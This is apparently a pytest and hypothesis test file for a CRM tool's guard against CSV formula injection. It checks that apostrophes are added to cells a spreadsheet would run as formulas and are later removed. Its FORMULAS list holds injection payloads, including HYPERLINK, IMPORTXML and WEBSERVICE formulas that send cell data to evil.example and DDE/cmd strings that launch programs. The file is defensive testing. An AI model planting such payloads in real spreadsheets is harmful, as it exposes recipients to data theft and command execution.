"""Cells that a spreadsheet would obey get an apostrophe, everything else stays, and the guard comes off again."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from crm_cli.formats import read_sheet
from crm_cli.formats.csv_file import write_csv
from crm_cli.formats.spreadsheet import guarded, guarded_headers, is_formula, unguarded

FORMULAS = (
    "=1+1",
    "=1+1;2",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://evil.example?",A1),"//a")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    '=DDE("cmd";"/C calc";"x")',
    "=",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "+49+SUM(A1:A9)",
    "+A1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "-",
    "--1",
    "-A1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@",
    "@import",
    "\t=1+1",
    "\tx",
    "\t5",
    " -5",
    "\r=1+1",
    "\rx",
    "\n=1+1",
    "\x00=1+1",
    "\x00x",
    " =1+1",
    "\u00a0=1+1",
    "\u3000+cmd",
    "\ufeff=1+1",
    "\u200b@SUM(A1)",
    "＝1+1",
    "＋cmd",
    "－cmd",
    "＠SUM(1)",
    "﹦1+1",
    "+49 30 (SUM(A1))",
    "-1,5e3",
    "+1e9999",
)
HARMLESS = (
    "",
    " ",
    "\t",
    "Jane Doe",
    "jane=doe",
    "a@b.example",
    "1+1",
    "-5",
    "-1500.50",
    "+7",
    "-1.234.567,89",
    "-12 %",
    "+493023125100",
    "+49 30 23125-100",
    "+1 (555) 010-9999",
    "'quoted'",
    "O'Neil",
    "2026-11-27T10:00:00Z",
    '{"at":"2026-11-27"}',
)


@pytest.mark.parametrize("cell", FORMULAS)
def test_what_a_spreadsheet_would_obey_is_guarded_by_one_apostrophe(cell: str) -> None:
    assert is_formula(cell)
    assert guarded(cell) == f"'{cell}"
    assert unguarded(guarded(cell)) == cell


@pytest.mark.parametrize("cell", HARMLESS)
def test_names_numbers_and_phones_stay_as_they_are(cell: str) -> None:
    assert not is_formula(cell)
    assert guarded(cell) == cell
    assert unguarded(cell) == cell


@pytest.mark.parametrize("cell", ["'=1+1", "''=1+1", "'+A1", "'\t=x"])
def test_what_looks_guarded_and_is_not_gets_an_apostrophe_too(cell: str) -> None:
    assert not is_formula(cell)
    assert guarded(cell) == f"'{cell}"
    assert unguarded(guarded(cell)) == cell


CELLS = st.text(st.sampled_from("'=+-@＝1 a\t\r\n\x00()./,;\"") | st.characters(codec="utf-8"), max_size=8)


@settings(deadline=None, max_examples=200)
@given(CELLS)
def test_the_guard_comes_off_exactly_and_nothing_guarded_is_a_formula(cell: str) -> None:
    assert unguarded(guarded(cell)) == cell
    assert not is_formula(guarded(cell))


@settings(deadline=None, max_examples=100)
@given(
    st.lists(CELLS.filter(lambda cell: "\x00" not in cell), min_size=2, max_size=2).filter(
        lambda row: any(map(str.strip, row))
    )
)
def test_a_guarded_file_is_read_like_the_faithful_one(row: list[str]) -> None:
    safe = write_csv(guarded_headers(["name", "custom.x"]), [list(map(guarded, row))])
    (found,) = read_sheet(safe.encode(), "x.csv").rows
    assert [cell.strip() for cell in found.cells.values()] == [cell.strip() for cell in row]


def test_a_file_whose_first_header_bears_no_apostrophe_is_taken_at_its_word() -> None:
    sheet = read_sheet(b"name,company\n'=1+1,'Acme'\n", "x.csv")
    assert [row.cells for row in sheet.rows] == [{"name": "'=1+1", "company": "'Acme'"}]


def test_a_file_whose_first_header_bears_one_is_freed_of_its_guards() -> None:
    sheet = read_sheet(b"'name,company\n'=1+1,'Acme'\n''=2,+49 30 1\n", "x.csv")
    assert sheet.headers == ("name", "company")
    assert [tuple(row.cells.values()) for row in sheet.rows] == [("=1+1", "'Acme'"), ("'=2", "+49 30 1")]


def test_headers_that_become_alike_are_told_apart() -> None:
    assert read_sheet(b"'name,name\na,b\n", "x.csv").headers == ("name", "name (2)")
